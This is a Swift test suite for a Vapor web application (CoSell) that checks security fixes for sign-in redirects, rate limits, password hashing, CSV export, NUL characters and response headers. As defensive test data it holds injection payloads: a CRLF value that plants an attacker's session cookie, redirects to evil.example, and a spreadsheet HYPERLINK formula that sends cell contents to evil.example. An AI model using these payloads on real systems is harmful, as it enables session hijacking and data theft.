import CoSellApp
import CoSellDomain
import CoSellPersistence
import CoSellTestSupport
import CoSellWorkflows
import FluentSQL
import Foundation
import Testing
import Vapor
import VaporTesting

@testable import CoSellWeb

/// What a security and reliability review of the running server found (issue 15), each with a test
/// that fails without its fix.
@Suite("Hardening")
struct HardeningTests {
    // MARK: 1. `next` after sign-in

    @Test("next: only a page of this application; CR, LF, TAB, outside hosts and the API go to /")
    func safeNextRules() async throws {
        try await withTestApp(.sqlite) { app in
            let routes = app.routes.all
            let deal = UUID().uuidString
            for ok in ["/", "/deals", "/deals?status=won", "/deals/\(deal)", "/partnerships", "/reports/revenue"] {
                #expect(SignInController.safeNext(ok, routes: routes) == ok, "\(ok)")
            }
            for bad in [
                "/\r\nSet-Cookie: cosell_session=ATTACKER; Path=/", "/\t/evil.example", "//evil.example/",
                "https://evil.example/", "/\\evil.example", "/api/v1/deals", "/sign-in", "/no-such-page",
                "/deals/../audit", "/deals//x", "/deals?x=\r\n", "/deals?x=<script>", "", "deals",
                String(repeating: "/deals", count: 100),
            ] {
                #expect(SignInController.safeNext(bad, routes: routes) == "/", "\(bad.debugDescription)")
            }
        }
    }

    @Test("a signed-in person sent to sign-in with a crafted next gets / and no injected header")
    func nextOverHTTP() async throws {
        try await withTestApp(.sqlite) { app in
            let c = PageClient(app)
            _ = try await c.signIn(People.hostPM)
            let injected = try await c.get(
                "/sign-in?next=/%0d%0aSet-Cookie:%20cosell_session=ATTACKER;%20Path=/")
            #expect(injected.status == .seeOther)
            #expect(injected.location == "/")
            let tab = try await c.get("/sign-in?next=/%09/evil.example")
            #expect(tab.location == "/")
            let fine = try await c.get("/sign-in?next=%2Fdeals%3Fstatus%3Dwon")
            #expect(fine.location == "/deals?status=won")
            // The form post too.
            let other = PageClient(app)
            _ = try await other.get("/sign-in")
            let posted = try await other.post(
                "/sign-in",
                ["email": People.hostPM, "password": "cosell-demo-password", "next": "/\t/evil.example"])
            #expect(posted.status == .seeOther)
            #expect(posted.location == "/")
        }
    }

    // MARK: 2. sign-in limits and bcrypt

    @Test(
        "40 concurrent wrong sign-ins: no more than the limit are checked; the right password waits once five are counted"
    )
    func concurrentSignIns() async throws {
        try await withTestApp(.sqlite) { app in
            let statuses = try await withThrowingTaskGroup(of: UInt.self) { group in
                for _ in 0..<40 {
                    group.addTask {
                        try await app.call(
                            .POST, "/api/v1/sessions", token: nil,
                            body: jsonString(["email": Email.hostAdmin, "password": "not-the-password"])
                        ).status.code
                    }
                }
                var all: [UInt] = []
                for try await s in group { all.append(s) }
                return all
            }
            // Five failures per account: at most five attempts reached the password check. The rest
            // are refused unchecked (429), or busy (503) when SQLite's writer was taken every retry.
            let failures = statuses.filter { $0 == 401 }.count
            #expect(failures <= 5)
            #expect(statuses.contains(429))
            #expect(statuses.allSatisfy { $0 == 401 || $0 == 429 || $0 == 503 }, "\(statuses)")
            let right = try await app.call(
                .POST, "/api/v1/sessions", token: nil,
                body: jsonString(["email": Email.hostAdmin, "password": DemoLoader.password]))
            // Once five failures are counted, even the right password waits for the window.
            if failures == 5 { #expect(right.status == .tooManyRequests) }
        }
    }

    @Test("hashing runs on its own threads; past the waiting limit a sign-in answers 503 with Retry-After")
    func hasherOverload() async throws {
        let hasher = PasswordHashPool(threads: 1, maxWaiting: 0, cost: 4)
        let (slow, release) = await Self.occupy(hasher)
        await #expect(throws: Problem.self) { _ = try await hasher.verify("x", against: nil) }
        do {
            _ = try await hasher.verify("x", against: nil)
        } catch let p as Problem {
            #expect(p.status == 503)
        }
        release.signal()
        try await slow.value
        #expect(hasher.inFlight == 0)
        // With a free thread, checks go through: a right and a wrong password, and an unknown person.
        let hash = try await hasher.hash("right password")
        #expect(try await hasher.verify("right password", against: hash))
        #expect(try await !hasher.verify("wrong password", against: hash))
        #expect(try await !hasher.verify("right password", against: nil))
    }

    @Test("an overloaded hasher answers the API's sign-in 503 with Retry-After, and counts no failure")
    func signInBusy() async throws {
        try await withTestApp(.sqlite) { app in
            var s = app.security
            s.hashingThreads = 1
            s.maxWaitingHashes = 0
            s.bcryptCost = 12
            app.security = s
            let hasher = PasswordHashPool(threads: 1, maxWaiting: 0, cost: 4)
            app.storage[PasswordHashPoolKey.self] = hasher
            let (slow, release) = await Self.occupy(hasher)
            let r = try await app.call(
                .POST, "/api/v1/sessions", token: nil,
                body: jsonString(["email": Email.hostAdmin, "password": "not-the-password"]))
            #expect(r.status == .serviceUnavailable)
            #expect(r.headers.first(name: .retryAfter) != nil)
            release.signal()
            try await slow.value
            let counted = try await app.store.signInFailures(
                email: Email.hostAdmin, address: "unknown", since: .distantPast)
            #expect(counted.account == 0)
        }
    }

    /// Keeps the hasher's only queue busy until the semaphore is signalled (the waiting happens on
    /// the queue's thread, never on a task's); returns once the work has started.
    static func occupy(_ hasher: PasswordHashPool) async -> (Task<Void, any Error>, DispatchSemaphore) {
        let release = DispatchSemaphore(value: 0)
        let (started, go) = AsyncStream<Void>.makeStream()
        let task = Task {
            try await hasher.run {
                go.yield()
                go.finish()
                release.wait()
            }
        }
        for await _ in started { break }
        return (task, release)
    }

    @Test("a database pool timeout is 503 with Retry-After, never 500")
    func poolTimeout() async throws {
        try await withTestApp(.sqlite) { app in
            let req = Request(application: app, on: app.eventLoopGroup.next())
            let p = ProblemMiddleware.problem(for: ConnectionPoolTimeoutError.connectionRequestTimeout, request: req)
            #expect(p.status == 503)
            let r = Response(status: .serviceUnavailable)
            ProblemMiddleware.addRetryAfter(p, to: r)
            #expect(r.headers.first(name: .retryAfter) == "1")
        }
    }

    // MARK: 4. CSV formula injection

    @Test("every CSV export neutralizes cells a spreadsheet would run as formulas", arguments: TestDatabase.all)
    func csvExports(_ engine: TestDatabase) async throws {
        try await withTestApp(engine) { app in
            let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
            let list = try await app.call(.GET, "/api/v1/deals?limit=200")
            let items = (list["items"] as? [[String: Any]]) ?? []
            let ids = items.compactMap { ($0["deal"] as? [String: Any])?["id"] as? String }
            #expect(ids.count > 3)
            // A title on every open deal, an address of formulas on every joint account, a stage name.
            var renamed = 0
            for id in ids {
                let r = try await app.call(
                    .PATCH, "/api/v1/deals/\(id)", token: Token.hostAdmin, body: jsonString(["title": formula]))
                if r.status == .ok { renamed += 1 }
            }
            #expect(renamed > 3)
            let sql = try #require(app.db as? any SQLDatabase)
            try await sql.raw("UPDATE joint_accounts SET postal_code = '=1+2', state = '@SUM(9)', city = '+cmd'").run()
            try await sql.raw(
                "UPDATE playbooks SET definition = REPLACE(definition, '\"Joint discovery\"', '\"-2+3 discovery\"')"
            ).run()
            let ace = "solution_offered=S-0001234&delivery_model=SaaS%20or%20PaaS&use_case=Analytics&skip_invalid=true"
            let ps = try #require(
                ((try await app.call(.GET, "/api/v1/partnerships")).json as? [[String: Any]])?.first?["id"] as? String)
            let routes = [
                "/api/v1/exports/deals.csv", "/api/v1/exports/registrations.csv", "/api/v1/exports/aws-ace.csv?\(ace)",
                "/api/v1/exports/partner-center.csv?solution_id=SOL-1&skip_invalid=true",
                "/api/v1/partnerships/\(ps)/reports/pipeline.csv", "/api/v1/partnerships/\(ps)/reports/adoption.csv",
                "/api/v1/reports/revenue.csv?currency=USD", "/api/v1/audit.csv",
            ]
            var seenNeutralized = 0
            for path in routes {
                let res = try await app.testing().sendRequest(
                    .GET, path, headers: ["Authorization": "Bearer \(Token.hostAdmin)"])
                #expect(res.status == .ok, "\(path)")
                let cells = Self.cells(of: res.body.string)
                #expect(cells.count > 5, "\(path)")
                for cell in cells {
                    guard let first = cell.unicodeScalars.first else { continue }
                    let dangerous = "=+@\t\r".unicodeScalars.contains(first) || (first == "-" && !Self.isNumber(cell))
                    #expect(!dangerous, "\(path): \(cell)")
                }
                if cells.contains(where: {
                    $0.hasPrefix("'=") || $0.hasPrefix("'@") || $0.hasPrefix("'+") || $0.hasPrefix("'-")
                }) {
                    seenNeutralized += 1
                }
            }
            // The injected values reached the exports (and came out neutralized), not only empty files.
            #expect(seenNeutralized >= 6)
        }
    }

    /// The cells of a CSV text (quoted fields with doubled quotes, commas, line breaks).
    static func cells(of text: String) -> [String] {
        var out: [String] = []
        var cell = ""
        var quoted = false
        var chars = Array(text)
        chars.append("\n")
        var i = 0
        while i < chars.count {
            let c = chars[i]
            if quoted {
                if c == "\"" {
                    if i + 1 < chars.count, chars[i + 1] == "\"" {
                        cell.append("\"")
                        i += 1
                    } else {
                        quoted = false
                    }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" && cell.isEmpty {
                quoted = true
            } else if c == "," || c == "\n" {
                out.append(cell)
                cell = ""
            } else {
                cell.append(c)
            }
            i += 1
        }
        return out
    }

    static func isNumber(_ s: String) -> Bool { Double(s) != nil }

    // MARK: 5. NUL

    @Test(
        "a NUL character in any text is refused with 422 naming the field, before sign-in too",
        arguments: TestDatabase.all)
    func nulRefused(_ engine: TestDatabase) async throws {
        try await withTestApp(engine) { app in
            let signIn = try await app.call(
                .POST, "/api/v1/sessions", token: nil, body: #"{"email":"a\u0000b@x.example","password":"whatever"}"#)
            #expect(signIn.status == .unprocessableEntity)
            #expect(signIn["field"] as? String == "email")
            let lessons = try await app.call(.GET, "/api/v1/lessons?q=%00")
            #expect(lessons.status == .unprocessableEntity)
            #expect(lessons["field"] as? String == "q")
            let list = try await app.call(.GET, "/api/v1/deals?limit=1")
            let id = try #require(list.path("items", "0", "deal", "id") as? String)
            let title = try await app.call(.PATCH, "/api/v1/deals/\(id)", body: #"{"title":"Renamed\u0000"}"#)
            #expect(title.status == .unprocessableEntity)
            #expect(title["field"] as? String == "title")
            let nested = try await app.call(
                .POST, "/api/v1/webhooks", body: #"{"url":"https://example.com/h","events":["deal.closed\u0000"]}"#)
            #expect(nested.status == .unprocessableEntity)
            #expect(nested["field"] as? String == "events[0]")
            // A page form.
            let c = PageClient(app)
            _ = try await c.get("/sign-in")
            let form = try await c.post("/sign-in", ["email": "a\0b@x.example", "password": "whatever"])
            #expect(form.status == .unprocessableEntity)
            // An import names the line; the earlier list is kept.
            let csv =
                "Account ID,Account Name,Website,Billing Country,Type\n001A,Acme,acme.example,US,Customer\n001B,Bad\0Name,bad.example,US,Customer\n"
            let res = try await app.testing().sendRequest(
                .POST,
                "/api/v1/organizations/\(DemoIDs.host.uuidString)/account-imports?file_name=crm.csv&confirm_retirements=true",
                headers: ["Authorization": "Bearer \(Token.hostAdmin)", "Content-Type": "text/csv"],
                body: ByteBuffer(string: csv))
            #expect(res.status == .unprocessableEntity)
            #expect(res.body.string.contains("line 3"))
            #expect(res.body.string.contains("NUL"))
            // Nothing of this reached the database as a 500.
            let me = try await app.call(.GET, "/api/v1/me")
            #expect(me.status == .ok)
        }
    }

    // MARK: 6. the default playbook

    @Test(
        "another company's new playbook does not change the playbook of a deal opened without one",
        arguments: TestDatabase.all)
    func defaultPlaybook(_ engine: TestDatabase) async throws {
        try await withTestApp(engine) { app in
            let own = try await app.call(
                .POST, "/api/v1/playbooks", token: Token.partnerAdmin, body: jsonString(["name": "Halyard's playbook"]))
            #expect(own.status == .created)
            let accounts = try await app.store.deals(visibleTo: DemoIDs.host, filter: .init(limit: 1)).items
            let deal = try #require(accounts.first)
            let opened = try await app.call(
                .POST, "/api/v1/deals", token: Token.hostAdmin,
                body: jsonString([
                    "partnership_id": deal.partnershipID.uuidString, "joint_account_id": deal.jointAccountID.uuidString,
                    "title": "Opened after the partner's edit", "reason": "A second motion on this account",
                    "parallel_reason": "A second motion on this account, budgeted apart",
                ]))
            #expect(opened.status == .created, "\(opened.json ?? "")")
            #expect(opened.path("deal", "playbook_id") as? String == Playbook.standardID.uuidString)
        }
    }

    // MARK: 7. token scopes

    @Test("a read-only token cannot revoke tokens")
    func readTokenCannotRevoke() async throws {
        try await withTestApp(.sqlite) { app in
            let made = try await app.call(
                .POST, "/api/v1/tokens", body: jsonString(["name": "reader", "scope": "read"]))
            let secret = try #require(made["token"] as? String)
            let id = try #require(made.path("info", "id") as? String)
            let r = try await app.call(.DELETE, "/api/v1/tokens/\(id)", token: secret)
            #expect(r.status == .forbidden)
            let still = try await app.call(.GET, "/api/v1/me", token: secret)
            #expect(still.status == .ok)
        }
    }

    // MARK: 8 and 9. concurrent invitations and sharing

    @Test(
        "six invitations at once make one partnership (409 for the rest); ending it frees the pair; sharing set at once is one row",
        arguments: TestDatabase.all)
    func concurrentInvitations(_ engine: TestDatabase) async throws {
        try await withTestApp(engine) { app in
            _ = try await makeOutsider(app)
            let statuses = try await withThrowingTaskGroup(of: UInt.self) { group in
                for i in 0..<6 {
                    group.addTask {
                        try await app.call(
                            .POST, "/api/v1/partnerships",
                            body: jsonString(["name": "Quarry x Outsider \(i)", "partner_domain": "outsider.example"])
                        ).status.code
                    }
                }
                var all: [UInt] = []
                for try await s in group { all.append(s) }
                return all
            }
            #expect(statuses.filter { $0 == 201 }.count == 1, "\(statuses)")
            // The others are refused: 409, or 503 when SQLite's writer stayed taken through the retries.
            #expect(statuses.filter { $0 == 409 || $0 == 503 }.count == 5, "\(statuses)")
            let mine =
                (try await app.call(.GET, "/api/v1/partnerships", token: "cosell_outsider")).json as? [[String: Any]]
            #expect(mine?.count == 1)
            let id = try #require(mine?.first?["id"] as? String)
            let accepted = try await app.call(.POST, "/api/v1/partnerships/\(id)/acceptance", token: "cosell_outsider")
            #expect(accepted["status"] as? String == "active")

            // Both admins of the new partnership set sharing at once, first time for each population.
            let sharing = try await withThrowingTaskGroup(of: UInt.self) { group in
                for level in ["counts", "overlapping_accounts", "counts", "overlapping_accounts", "hidden", "counts"] {
                    group.addTask {
                        try await app.call(
                            .PUT, "/api/v1/partnerships/\(id)/sharing", token: "cosell_outsider",
                            body: jsonString(["population": "customer", "level": level])
                        ).status.code
                    }
                }
                var all: [UInt] = []
                for try await s in group { all.append(s) }
                return all
            }
            #expect(sharing.allSatisfy { $0 == 200 }, "\(sharing)")
            let sql = try #require(app.db as? any SQLDatabase)
            let rows = try await sql.raw(
                "SELECT COUNT(*) AS n FROM partnership_sharing WHERE partnership_id = \(bind: UUID(uuidString: id)!) AND population = 'customer'"
            ).first()
            #expect(try rows?.decode(column: "n", as: Int.self) == 1)

            let ended = try await app.call(
                .POST, "/api/v1/partnerships/\(id)/ending", token: "cosell_outsider",
                body: jsonString(["reason": "Trying again"]))
            #expect(ended.status == .ok)
            let again = try await app.call(
                .POST, "/api/v1/partnerships",
                body: jsonString(["name": "Quarry x Outsider, again", "partner_domain": "outsider.example"]))
            #expect(again.status == .created)
        }
    }

    // MARK: 10. an import killed with kill -9

    @Test(
        "a running import whose process is gone is marked failed at start; one still running is left",
        arguments: TestDatabase.all)
    func abandonedImports(_ engine: TestDatabase) async throws {
        try await withTestApp(engine) { app in
            let store = app.store
            let me = ImportRunner.current
            let dead = UUID()
            let alive = UUID()
            let elsewhere = UUID()
            for id in [dead, alive, elsewhere] {
                try await store.startImport(
                    id: id, organizationID: DemoIDs.host, fileName: "crm.csv", createdBy: nil, at: Date())
            }
            let sql = try #require(app.db as? any SQLDatabase)
            // A process of this host that no longer exists (an earlier process with this one's id),
            // and a job of another host.
            let gone = ImportRunner(host: me.host, pid: me.pid, token: "earlier1").text
            try await sql.raw("UPDATE account_imports SET runner = \(bind: gone) WHERE id = \(bind: dead)").run()
            let other = ImportRunner(host: "another-host", pid: 1, token: "abcd1234").text
            try await sql.raw("UPDATE account_imports SET runner = \(bind: other) WHERE id = \(bind: elsewhere)").run()
            let marked = try await store.failAbandonedImports(at: Date())
            #expect(Set(marked) == [dead])
            let failed = try #require(try await store.accountImport(dead))
            #expect(failed.status == "failed")
            #expect(failed.message?.contains("Import the file again") == true)
            #expect(try await store.accountImport(alive)?.status == "running")
            #expect(try await store.accountImport(elsewhere)?.status == "running")
            // A new import of the same organization goes ahead.
            let res = try await app.testing().sendRequest(
                .POST,
                "/api/v1/organizations/\(DemoIDs.host.uuidString)/account-imports?file_name=crm.csv&confirm_retirements=true",
                headers: ["Authorization": "Bearer \(Token.hostAdmin)", "Content-Type": "text/csv"],
                body: ByteBuffer(
                    string: "Account ID,Account Name,Website,Billing Country,Type\n001A,Acme,acme.example,US,Customer\n"
                ))
            #expect(res.status == .accepted || res.status == .created || res.status == .ok)
        }
    }

    @Test("a process id that does not exist on this host is gone; this process is not")
    func runnerLiveness() {
        let me = ImportRunner.current
        #expect(ImportRunner.isGone(me) == false)
        #expect(ImportRunner.isGone(ImportRunner(host: me.host, pid: Int32.max - 7, token: "x")) == true)
        #expect(ImportRunner.isGone(ImportRunner(host: "elsewhere", pid: 1, token: "x")) == nil)
        #expect(ImportRunner(text: me.text) == me)
    }

    // MARK: 11. headers on every answer

    @Test("errors carry the security headers too: 401, 403, 404 (JSON and HTML), 413, 422")
    func headersOnErrors() async throws {
        try await withTestApp(.sqlite) { app in
            let big = String(repeating: "x", count: 1_100_000)
            let answers: [(String, HTTPMethod, String, String?, HTTPHeaders)] = [
                ("401", .GET, "/api/v1/me", nil, [:]),
                ("403", .GET, "/api/v1/audit", Token.hostSeller, [:]),
                ("404", .GET, "/api/v1/nothing-here", Token.hostAdmin, [:]),
                ("404 page", .GET, "/nothing-here", nil, ["Accept": "text/html"]),
                ("413", .POST, "/api/v1/tokens", Token.hostAdmin, ["Content-Type": "application/json"]),
                ("422", .POST, "/api/v1/tokens", Token.hostAdmin, ["Content-Type": "application/json"]),
            ]
            for (name, method, path, token, extra) in answers {
                var headers = extra
                if let token { headers.bearerAuthorization = BearerAuthorization(token: token) }
                let body: ByteBuffer? =
                    name == "413" ? ByteBuffer(string: big) : (name == "422" ? ByteBuffer(string: "{}") : nil)
                let res = try await app.testing().sendRequest(method, path, headers: headers, body: body)
                #expect(res.status.code >= 400, "\(name)")
                #expect(res.headers.first(name: "X-Content-Type-Options") == "nosniff", "\(name)")
                #expect(
                    res.headers.first(name: "Content-Security-Policy")?.contains("frame-ancestors 'none'") == true,
                    "\(name)")
                #expect(res.headers.first(name: "X-Frame-Options") == "DENY", "\(name)")
                #expect(res.headers.first(name: "Referrer-Policy") == "same-origin", "\(name)")
                if name == "413" { #expect(res.body.string.contains("1 MB")) }
            }
        }
    }

    // MARK: 13. passwords

    @Test("passwords: not only spaces, at most 72 bytes; a longer one never signs in")
    func passwordPolicy() async throws {
        #expect(throws: WorkflowError.self) { try SecurityWorkflows.checkPassword(String(repeating: " ", count: 12)) }
        #expect(throws: WorkflowError.self) { try SecurityWorkflows.checkPassword(String(repeating: "a", count: 73)) }
        // 36 two-byte letters are 72 bytes: accepted; 37 are not.
        try SecurityWorkflows.checkPassword(String(repeating: "é", count: 36))
        #expect(throws: WorkflowError.self) { try SecurityWorkflows.checkPassword(String(repeating: "é", count: 37)) }
        try SecurityWorkflows.checkPassword(String(repeating: "a", count: 72))
        try await withTestApp(.sqlite) { app in
            // A person whose password is 72 bytes: a different tail after it does not sign in.
            let password = String(repeating: "k", count: 72)
            let hash = try await app.passwordHashPool.hash(password)
            let sql = try #require(app.db as? any SQLDatabase)
            try await sql.raw(
                "UPDATE credentials SET password_hash = \(bind: hash) WHERE person_id = (SELECT id FROM people WHERE email = \(bind: Email.hostAdmin))"
            ).run()
            let longer = try await app.call(
                .POST, "/api/v1/sessions", token: nil,
                body: jsonString(["email": Email.hostAdmin, "password": password + "anything"]))
            #expect(longer.status == .unauthorized)
            let exact = try await app.call(
                .POST, "/api/v1/sessions", token: nil,
                body: jsonString(["email": Email.hostAdmin, "password": password]))
            #expect(exact.status == .created)
        }
    }

    // MARK: 15. the 413 names the route's limit

    @Test("the 413 of the import route names its own limit (100 MB), the JSON routes theirs (1 MB)")
    func bodyLimitWording() async throws {
        try await withTestApp(.sqlite) { app in
            let importRoute = try #require(
                app.routes.all.first {
                    $0.method == .POST && $0.path.last == .constant("account-imports")
                })
            let req = Request(application: app, on: app.eventLoopGroup.next())
            req.route = importRoute
            #expect(ProblemMiddleware.bodyLimit(of: req) == "100 MB")
            let tokens = try #require(
                app.routes.all.first { $0.method == .POST && $0.path == ["api", "v1", "tokens"] })
            req.route = tokens
            #expect(ProblemMiddleware.bodyLimit(of: req) == "1 MB")
        }
    }
}
